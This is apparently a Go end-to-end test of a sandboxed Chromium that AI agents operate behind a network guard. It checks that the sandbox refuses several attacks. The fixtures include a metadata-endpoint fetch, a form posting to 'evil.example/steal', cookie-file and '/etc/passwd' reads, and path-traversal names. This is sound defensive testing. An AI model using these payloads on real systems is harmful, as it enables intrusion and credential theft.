package provision

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"html"
	"image/jpeg"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/moby/moby/client"

	"github.com/affido/affido/internal/gatewayapi"
	"github.com/affido/affido/manager/browser"
	"github.com/affido/affido/manager/outbound"
)

// The agents' browser against the real thing: Debian's Chromium in a
// browser sandbox on Docker (affido/browser:dev), driven over the bridge,
// reaching a test site through the manager's guarded proxy and nothing
// else. The test site listens on this process's loopback, which the guard
// is told to allow, as the e2e stack allows its test site.
func TestBrowserSandboxOnDocker(t *testing.T) {
	if os.Getenv("AFFIDO_TEST_DOCKER") != "1" {
		t.Skip("set AFFIDO_TEST_DOCKER=1 to run the browser sandbox against Docker")
	}
	image := cmpOr(os.Getenv("AFFIDO_BROWSER_IMAGE"), "affido/browser:dev")
	stack := fmt.Sprintf("affidobt%d", time.Now().UnixNano()%100000)
	d, err := NewDocker(Config{Stack: stack})
	if err != nil {
		t.Fatal(err)
	}
	defer d.Close()
	ctx := context.Background()
	if _, err := d.cli.ImageInspect(ctx, image); err != nil {
		t.Fatalf("the browser image %s: %v (./dev.sh build makes it)", image, err)
	}
	eng := d.Browsers(BrowserConfig{Image: image, MemoryBytes: 1 << 30, NanoCPUs: 1e9, PidsLimit: 512})
	user := "alice"
	t.Cleanup(func() {
		_ = eng.Remove(context.Background(), user)
		_, _ = d.cli.VolumeRemove(context.Background(), eng.ProfileVolume(user), client.VolumeRemoveOptions{Force: true})
	})

	var hits []string
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits = append(hits, r.URL.Path)
		w.Header().Set("Content-Type", "text/html")
		switch r.URL.Path {
		case "/hostile":
			fmt.Fprint(w, `<title>Hostile</title><h1>Hostile</h1><img src="http://127.0.0.2:8080/a.png"><img src="http://10.255.255.1/b.png">`+
				`<iframe src="/redirect"></iframe><script>fetch("http://169.254.169.254/latest").catch(()=>{})</script>`)
		case "/redirect":
			http.Redirect(w, r, "http://192.168.77.7/inner", http.StatusFound)
		case "/remember":
			http.SetCookie(w, &http.Cookie{Name: "session", Value: "bob", Path: "/", MaxAge: 3600})
			http.Redirect(w, r, "/account", http.StatusSeeOther)
		case "/account":
			if c, err := r.Cookie("session"); err == nil {
				fmt.Fprintf(w, "<title>Account</title><h1>Signed in as %s</h1>", c.Value)
				return
			}
			fmt.Fprint(w, "<title>Account</title><h1>Please sign in</h1>")
		case "/xform":
			fmt.Fprint(w, `<title>Search</title><form action="http://evil.example/steal"><input id="q" name="q"></form>`)
		case "/alert":
			fmt.Fprint(w, `<title>Alert</title><h1>Dialogs</h1><script>alert("stop"); confirm("really?")</script>`)
		case "/file":
			fmt.Fprint(w, `<title>File</title><input id="f" type="file"><input id="tricky" onfocus="location='/login'">`)
		case "/dl":
			fmt.Fprint(w, `<title>Report</title><a id="get" href="/report.csv" download="../../Q3 report.csv">Get the report</a>`)
		case "/report.csv":
			w.Header().Set("Content-Type", "text/csv")
			w.Header().Set("Content-Disposition", `attachment; filename="Q3 report.csv"`)
			fmt.Fprint(w, "quarter,revenue\nQ3,42\n")
		case "/big":
			w.Header().Set("Content-Type", "application/octet-stream")
			w.Header().Set("Content-Disposition", `attachment; filename="big.bin"`)
			_, _ = w.Write(make([]byte, 5<<20))
		case "/owner":
			fmt.Fprint(w, `<title>Owner</title><style>body{margin:0}input{position:fixed;left:0;width:100%;height:40%}</style>`+
				`<form action="/owner-done"><input id="name" name="name" style="top:0"><input id="pw" name="pw" type="password" style="top:50%"><button type="submit">Go</button></form>`)
		case "/owner-done":
			fmt.Fprintf(w, "<title>Done</title><h1>Hello %s, a password of %d characters</h1>", html.EscapeString(r.URL.Query().Get("name")), len(r.URL.Query().Get("pw")))
		case "/login":
			fmt.Fprint(w, `<title>Sign in</title><input id="user"><input id="pw" type="password"><button id="go">Go</button>`)
		default:
			fmt.Fprint(w, "<title>Home</title><h1>Home</h1>")
		}
	}))
	defer site.Close()
	g := outbound.NewGuard(outbound.Config{Allow: []netip.Prefix{netip.MustParsePrefix("127.0.0.1/32")}})
	svc := browser.New(browser.Config{Engine: eng, Dial: g.DialContext, Transport: g.Transport(10 * time.Second),
		Log: slog.New(slog.NewTextHandler(testWriter{t}, nil)), Timeout: 60 * time.Second})
	defer svc.Close()
	do := func(req gatewayapi.BrowserRequest) (gatewayapi.BrowserPage, error) {
		t.Helper()
		req.Agent = "main"
		return svc.Do(ctx, user, req)
	}
	mustDo := func(req gatewayapi.BrowserRequest) gatewayapi.BrowserPage {
		t.Helper()
		p, err := do(req)
		if err != nil {
			t.Fatalf("%s: %v", req.Action, err)
		}
		return p
	}

	start := time.Now()
	p := mustDo(gatewayapi.BrowserRequest{Action: gatewayapi.BrowserOpen, URL: site.URL + "/"})
	if p.Status != 200 || p.Title != "Home" {
		t.Fatalf("open: %+v", p)
	}
	t.Logf("bench: first page in a new browser sandbox (made, started, attached, loaded): %v", time.Since(start))

	// The sandbox: no network, no capability, read-only, not root.
	res, err := d.cli.ContainerInspect(ctx, eng.container(user), client.ContainerInspectOptions{})
	if err != nil {
		t.Fatal(err)
	}
	hc := res.Container.HostConfig
	if string(hc.NetworkMode) != "none" || !hc.ReadonlyRootfs || len(hc.CapDrop) != 1 || hc.CapDrop[0] != "ALL" || res.Container.Config.User != "10001:10001" {
		t.Fatalf("browser sandbox: network %s, read-only %v, cap-drop %v, user %q", hc.NetworkMode, hc.ReadonlyRootfs, hc.CapDrop, res.Container.Config.User)
	}

	// A page reaching inward: every such load is refused by the guard.
	p = mustDo(gatewayapi.BrowserRequest{Action: gatewayapi.BrowserOpen, URL: site.URL + "/hostile"})
	refused := strings.Join(p.RefusedTo, " ")
	for _, inward := range []string{"127.0.0.2", "10.255.255.1", "192.168.77.7", "169.254.169.254"} {
		if !strings.Contains(refused, inward) {
			// The script's fetch may still be on its way: read again.
			p2 := mustDo(gatewayapi.BrowserRequest{Action: gatewayapi.BrowserRead})
			refused += " " + strings.Join(p2.RefusedTo, " ")
		}
		if !strings.Contains(refused, inward) {
			t.Fatalf("no refusal of %s recorded: %q", inward, refused)
		}
	}

	// Reading, and what no rule can allow.
	p = mustDo(gatewayapi.BrowserRequest{Action: gatewayapi.BrowserOpen, URL: site.URL + "/login"})
	p = mustDo(gatewayapi.BrowserRequest{Action: gatewayapi.BrowserRead})
	if !strings.Contains(fmt.Sprint(p.Fields), "#pw") {
		t.Fatalf("fields: %+v", p.Fields)
	}
	if _, err := do(gatewayapi.BrowserRequest{Action: gatewayapi.BrowserType, URL: site.URL + "/login", Selector: "#pw", Text: "hunter2"}); !errors.Is(err, browser.ErrPassword) {
		t.Fatalf("typing a password: %v", err)
	}
	if _, err := do(gatewayapi.BrowserRequest{Action: gatewayapi.BrowserType, URL: "https://bank.example/login", Selector: "#user", Text: "x"}); !errors.Is(err, browser.ErrOtherSite) {
		t.Fatalf("acting on a page under another site's name: %v", err)
	}
	mustDo(gatewayapi.BrowserRequest{Action: gatewayapi.BrowserType, URL: site.URL + "/login", Selector: "#user", Text: "bob"})
	if v, err := svc.Do(ctx, user, gatewayapi.BrowserRequest{Agent: "main", Action: gatewayapi.BrowserRead}); err != nil || strings.Contains(fmt.Sprint(v.Fields), "bob") {
		t.Fatalf("a field's value is read out: %+v %v", v.Fields, err)
	}

	// The attack: typing a path into a file input (which would attach a
	// file of the sandbox's, its saved cookies, without the owner).
	mustDo(gatewayapi.BrowserRequest{Action: gatewayapi.BrowserOpen, URL: site.URL + "/file"})
	if _, err := do(gatewayapi.BrowserRequest{Action: gatewayapi.BrowserType, URL: site.URL + "/file", Selector: "#f", Text: "/profile/affido-cookies.json"}); !errors.Is(err, browser.ErrBadRequest) {
		t.Fatalf("typing into a file input: %v", err)
	}
	// A field that navigates when focused: the text is set on it, in this
	// page, and the tab stays where it was.
	mustDo(gatewayapi.BrowserRequest{Action: gatewayapi.BrowserType, URL: site.URL + "/file", Selector: "#tricky", Text: "x"})
	if p := mustDo(gatewayapi.BrowserRequest{Action: gatewayapi.BrowserRead}); !strings.HasSuffix(p.URL, "/file") {
		t.Fatalf("typing moved the tab to %s", p.URL)
	}
	// Typed text is not submitted to a form that sends it to another site.
	mustDo(gatewayapi.BrowserRequest{Action: gatewayapi.BrowserOpen, URL: site.URL + "/xform"})
	if _, err := do(gatewayapi.BrowserRequest{Action: gatewayapi.BrowserType, URL: site.URL + "/xform", Selector: "#q", Text: "secret", Submit: true}); !errors.Is(err, browser.ErrOtherSite) {
		t.Fatalf("submitting to another site: %v", err)
	}
	// Dialogs do not hold the tab.
	mustDo(gatewayapi.BrowserRequest{Action: gatewayapi.BrowserOpen, URL: site.URL + "/alert"})
	if p := mustDo(gatewayapi.BrowserRequest{Action: gatewayapi.BrowserRead}); !strings.Contains(p.Text, "Dialogs") {
		t.Fatalf("after dialogs: %+v", p)
	}

	// A sign-in outlives a kill of the sandbox: the tab opens again at its
	// page, with the cookie.
	p = mustDo(gatewayapi.BrowserRequest{Action: gatewayapi.BrowserOpen, URL: site.URL + "/remember"})
	if p.Title != "Account" {
		t.Fatalf("after /remember: %+v", p)
	}
	if err := eng.Kill(ctx, user); err != nil {
		t.Fatal(err)
	}
	p = mustDo(gatewayapi.BrowserRequest{Action: gatewayapi.BrowserRead})
	if !strings.Contains(p.Text, "Signed in as bob") {
		t.Fatalf("after a kill: %q", p.Text)
	}

	shot := mustDo(gatewayapi.BrowserRequest{Action: gatewayapi.BrowserScreenshot})
	if len(shot.PNG) < 100 || string(shot.PNG[1:4]) != "PNG" {
		t.Fatalf("screenshot: %d bytes", len(shot.PNG))
	}

	// A download stays in the sandbox, listed in each result, until a save
	// (which asks the owner, agent-side) reads it out; an id that is not
	// one of this browser's downloads reads nothing.
	mustDo(gatewayapi.BrowserRequest{Action: gatewayapi.BrowserOpen, URL: site.URL + "/dl"})
	mustDo(gatewayapi.BrowserRequest{Action: gatewayapi.BrowserClick, URL: site.URL + "/dl", Selector: "#get"})
	var dl gatewayapi.BrowserDownload
	for deadline := time.Now().Add(30 * time.Second); dl.State != "completed"; {
		if time.Now().After(deadline) {
			t.Fatalf("the download did not complete: %+v", dl)
		}
		if p := mustDo(gatewayapi.BrowserRequest{Action: gatewayapi.BrowserRead}); len(p.Downloads) > 0 {
			dl = p.Downloads[len(p.Downloads)-1]
		}
	}
	if dl.Name != "Q3 report.csv" || dl.Size != 22 || !strings.HasSuffix(dl.URL, "/report.csv") {
		t.Fatalf("the download: %+v", dl)
	}
	saved := mustDo(gatewayapi.BrowserRequest{Action: gatewayapi.BrowserSaveDownload, Download: dl.ID})
	if string(saved.File) != "quarter,revenue\nQ3,42\n" || saved.FileName != "Q3 report.csv" {
		t.Fatalf("the saved download: %q %q", saved.File, saved.FileName)
	}
	for _, id := range []string{"../profile/affido-cookies.json", "00000000-0000-0000-0000-000000000000"} {
		if _, err := do(gatewayapi.BrowserRequest{Action: gatewayapi.BrowserSaveDownload, Download: id}); !errors.Is(err, browser.ErrNoElement) {
			t.Fatalf("save download %q: %v", id, err)
		}
	}
	// Another agent's tab neither sees nor saves it.
	if p, err := svc.Do(ctx, user, gatewayapi.BrowserRequest{Agent: "ops", Action: gatewayapi.BrowserOpen, URL: site.URL + "/"}); err != nil || len(p.Downloads) != 0 {
		t.Fatalf("another agent's tab: %v %+v", err, p.Downloads)
	}
	if _, err := svc.Do(ctx, user, gatewayapi.BrowserRequest{Agent: "ops", Action: gatewayapi.BrowserSaveDownload, Download: dl.ID}); !errors.Is(err, browser.ErrNoElement) {
		t.Fatalf("another agent saves main's download: %v", err)
	}
	if _, err := svc.Do(ctx, user, gatewayapi.BrowserRequest{Agent: "ops", Action: gatewayapi.BrowserClose}); err != nil {
		t.Fatal(err)
	}
	// A download past the bound is cancelled, and cannot be saved.
	// (Opening a download's address answers ERR_ABORTED, Chromium's word
	// for a navigation that became a download; the download goes on.)
	if _, err := do(gatewayapi.BrowserRequest{Action: gatewayapi.BrowserOpen, URL: site.URL + "/big"}); err != nil && !strings.Contains(err.Error(), "ERR_ABORTED") {
		t.Fatalf("open a download: %v", err)
	}
	var big gatewayapi.BrowserDownload
	for deadline := time.Now().Add(30 * time.Second); big.State != "too_large"; {
		if time.Now().After(deadline) || big.State == "completed" {
			t.Fatalf("the big download: %+v", big)
		}
		for _, d := range mustDo(gatewayapi.BrowserRequest{Action: gatewayapi.BrowserRead}).Downloads {
			if d.Name == "big.bin" {
				big = d
			}
		}
	}
	if _, err := do(gatewayapi.BrowserRequest{Action: gatewayapi.BrowserSaveDownload, Download: big.ID}); !errors.Is(err, browser.ErrBadRequest) {
		t.Fatalf("save the cancelled download: %v", err)
	}

	// The owner's take-over: a picture of the tab sized to a phone, taps
	// on its fields, text typed (a password too: the owner may), Enter; the
	// agent's next read sees where the owner went.
	own := browser.Own{Host: "affido.example"}
	siteHost := strings.TrimPrefix(site.URL, "http://")
	siteHost = siteHost[:strings.LastIndex(siteHost, ":")]
	mustDo(gatewayapi.BrowserRequest{Action: gatewayapi.BrowserOpen, URL: site.URL + "/owner"})
	start = time.Now()
	sc, err := svc.Screen(ctx, user, "main", own, 400, 700, 2)
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("bench: the live view's first picture (the tab resized to a phone): %v, %d KiB", time.Since(start), len(sc.JPEG)>>10)
	cfg, err := jpeg.DecodeConfig(bytes.NewReader(sc.JPEG))
	if err != nil || cfg.Width != 800 || cfg.Height != 1400 || sc.Width != 400 || sc.Height != 700 || !strings.HasSuffix(sc.URL, "/owner") {
		t.Fatalf("the live view's picture: %v %dx%d, the tab %dx%d at %s", err, cfg.Width, cfg.Height, sc.Width, sc.Height, sc.URL)
	}
	start = time.Now()
	if _, err := svc.Screen(ctx, user, "main", own, 400, 700, 2); err != nil {
		t.Fatal(err)
	}
	t.Logf("bench: a live view picture: %v", time.Since(start))
	for _, in := range []browser.Input{{Kind: "tap", X: 0.5, Y: 0.2}, {Kind: "text", Text: "carol"}, {Kind: "tap", X: 0.5, Y: 0.7},
		{Kind: "text", Text: "hunter2"}, {Kind: "key", Key: "Enter"}} {
		in.Host = siteHost
		if err := svc.Input(ctx, user, "main", own, in); err != nil {
			t.Fatalf("input %+v: %v", in, err)
		}
	}
	if p := mustDo(gatewayapi.BrowserRequest{Action: gatewayapi.BrowserRead}); !strings.Contains(p.Text, "Hello carol, a password of 7 characters") {
		t.Fatalf("after the owner's input: %q", p.Text)
	}
	// The attacks: text for a page the owner saw on another site (the tab
	// moved meanwhile); the tab on the platform's own site (the owner must
	// not sign in to it in the agent's browser); inputs out of bounds.
	if err := svc.Input(ctx, user, "main", own, browser.Input{Kind: "text", Text: "hunter2", Host: "bank.example"}); !errors.Is(err, browser.ErrOtherSite) {
		t.Fatalf("text for a page of another site: %v", err)
	}
	if _, err := svc.Screen(ctx, user, "main", browser.Own{Host: site.URL[len("http://"):]}, 400, 700, 1); !errors.Is(err, browser.ErrOwnSite) {
		t.Fatalf("the live view of the platform's own site: %v", err)
	}
	if err := svc.Input(ctx, user, "main", browser.Own{Host: siteHost}, browser.Input{Kind: "open", Text: site.URL + "/login"}); !errors.Is(err, browser.ErrOwnSite) {
		t.Fatalf("opening the platform's own site: %v", err)
	}
	for _, in := range []browser.Input{{Kind: "tap", X: 2, Host: siteHost}, {Kind: "key", Key: "F13", Host: siteHost}, {Kind: "text", Text: "a\x00b", Host: siteHost},
		{Kind: "open", Text: "file:///etc/passwd"}, {Kind: "wiggle", Host: siteHost}, {Kind: "text", Text: "no host"}} {
		if err := svc.Input(ctx, user, "main", own, in); !errors.Is(err, browser.ErrBadRequest) {
			t.Fatalf("input %+v: %v, want a bad request", in, err)
		}
	}
	// An agent with no tab: nothing to show until the owner opens a page.
	if _, err := svc.Screen(ctx, user, "ops", own, 400, 700, 1); !errors.Is(err, browser.ErrNoPage) {
		t.Fatalf("the live view of an agent with no tab: %v", err)
	}
	if err := svc.Input(ctx, user, "ops", own, browser.Input{Kind: "open", Text: site.URL + "/account"}); err != nil {
		t.Fatalf("the owner opens a page in a new tab: %v", err)
	}
	if sc, err := svc.Screen(ctx, user, "ops", own, 400, 700, 1); err != nil || !strings.HasSuffix(sc.URL, "/account") {
		t.Fatalf("the new tab: %v %s", err, sc.URL)
	}
	if _, err := svc.Do(ctx, user, gatewayapi.BrowserRequest{Agent: "ops", Action: gatewayapi.BrowserClose}); err != nil {
		t.Fatal(err)
	}

	// Figures for the note (not asserted): a warm open, and the sandbox's
	// memory with one tab open and idle.
	start = time.Now()
	mustDo(gatewayapi.BrowserRequest{Action: gatewayapi.BrowserOpen, URL: site.URL + "/"})
	t.Logf("bench: open a page in a running browser sandbox: %v", time.Since(start))
	st, err := d.cli.ContainerStats(ctx, eng.container(user), client.ContainerStatsOptions{})
	if err == nil {
		var stats struct {
			MemoryStats struct {
				Usage uint64            `json:"usage"`
				Stats map[string]uint64 `json:"stats"`
			} `json:"memory_stats"`
		}
		_ = json.NewDecoder(st.Body).Decode(&stats)
		st.Body.Close()
		// As docker stats counts it: usage less the inactive page cache
		// (total_inactive_file on cgroup v1, inactive_file on v2).
		m := stats.MemoryStats
		inactive := m.Stats["total_inactive_file"]
		if inactive == 0 {
			inactive = m.Stats["inactive_file"]
		}
		if inactive < m.Usage {
			m.Usage -= inactive
		}
		t.Logf("bench: browser sandbox memory at rest, one tab: %.0f MiB", float64(m.Usage)/(1<<20))
	}
}

func cmpOr(a, b string) string {
	if a != "" {
		return a
	}
	return b
}

// testWriter sends the service's log to the test's.
type testWriter struct{ t *testing.T }

func (w testWriter) Write(p []byte) (int, error) {
	w.t.Log(strings.TrimSpace(string(p)))
	return len(p), nil
}
